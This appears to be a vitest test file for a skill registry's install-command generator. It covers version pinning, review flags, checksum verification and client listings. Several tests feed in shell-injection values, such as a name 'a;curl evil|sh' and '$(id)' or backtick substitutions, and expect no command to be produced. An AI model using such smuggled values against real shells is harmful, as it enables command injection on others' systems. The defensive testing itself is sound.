import { describe, expect, it } from "vitest";
import { fakeSkill } from "../test/fake-api.ts";
import { collectionCommands, installCommands } from "./install.ts";

const HERE = "http://127.0.0.1:8080";
const texts = (fields: Parameters<typeof fakeSkill>[0], publicUrl = HERE) =>
  installCommands(fakeSkill(fields), publicUrl).map(({ text }) => text);

describe("installCommands", () => {
  it("pins the version, and names the flag that experimental needs", () => {
    expect(texts({ security_tier: "verified" })[0]).toBe(`npx -y ${HERE}/cli/gaia-skill.tgz install web-search@1.3.0`);
    expect(texts({ security_tier: "experimental" })[0]).toBe(
      `npx -y ${HERE}/cli/gaia-skill.tgz install web-search@1.3.0 --allow-experimental`,
    );
    expect(texts({}, "https://skills.example")[0]).toContain("--registry https://skills.example");
  });

  it("names the flag that what is held for review needs, and shows no other way to it", () => {
    for (const security_tier of ["experimental", "community"] as const)
      expect(texts({ security_tier, held: true })).toEqual([
        `npx -y ${HERE}/cli/gaia-skill.tgz install web-search@1.3.0 --allow-held`,
      ]);
  });

  it("checks the download by hand against the digest of the very archive", () => {
    const [, byHand] = texts({});
    expect(byHand).toContain(`${HERE}/api/v1/skills/web-search/1.3.0/download`);
    expect(byHand).toContain(`echo "${"0123456789abcdef".repeat(4)}  web-search-1.3.0.zip" | sha256sum -c`);
  });

  it("is silent for what is not to be installed, and for names that a shell would act on", () => {
    for (const fields of [
      { status: "quarantined" },
      { status: "inspecting" },
      { name: "a;curl evil|sh" },
      { version: "1.0.0$(id)" },
    ] as const)
      expect(texts(fields)).toEqual([]);
    expect(texts({}, "https://x.example/$(id)")).toEqual([]);
    expect(texts({ artifacts: [{ archive: "zip", integrity: 'sha256-"; id; "', size_bytes: 1 }] })).toHaveLength(1);
  });
});

describe("other clients", () => {
  const titles = (
    fields: Parameters<typeof fakeSkill>[0] = {},
    clients?: ("apm" | "hub" | "clawhub" | "discovery")[],
  ) => {
    const skill = fakeSkill(fields);
    if (clients !== undefined && skill.versions[0]) skill.versions[0].clients = clients;
    return installCommands(skill, HERE, skill).map(({ title }) => title);
  };
  const OWN = "Install with gaia-skill";

  it("names each that the registry gives this version to, and no other", () => {
    expect(titles({ permissions: { declared: ["network:read"], inferred: [] } })).toEqual([
      OWN,
      "npx skills",
      "clawhub",
      "apm",
      "gaia",
      "by hand, checked",
    ]);
    expect(titles({}, [])).toEqual([OWN, "by hand, checked"]);
    expect(titles({}, ["apm"])).toEqual([OWN, "apm", "by hand, checked"]);
  });

  it("leaves out the client that refuses what the skill asks for, or cannot name this version", () => {
    expect(titles({ permissions: { declared: ["filesystem:write"], inferred: [] } })).not.toContain("gaia");
    const skill = fakeSkill();
    const [newest] = skill.versions;
    if (newest === undefined) throw new Error("it has a version");
    skill.versions = [{ ...newest, version: "1.4.0" }, newest];
    const older = installCommands(skill, HERE, skill).map(({ title }) => title);
    expect(older).toContain("clawhub");
    expect(older).not.toContain("npx skills");
  });
});

describe("collectionCommands", () => {
  it("names the collection, and nothing that a shell would take for more", () => {
    const text = (publisher: string, name: string, publicUrl = HERE) =>
      collectionCommands({ publisher, name }, publicUrl).map((command) => command.text);
    expect(text("ada", "tools")).toEqual([`npx -y ${HERE}/cli/gaia-skill.tgz install --collection ada/tools`]);
    for (const [publisher, name] of [
      ["ada;id", "tools"],
      ["ada", "$(id)"],
      ["ada", "a b"],
      ["-ada", "tools"],
    ] as const)
      expect(text(publisher, name)).toEqual([]);
    expect(text("ada", "tools", "https://skills.example/`id`")).toEqual([]);
  });
});
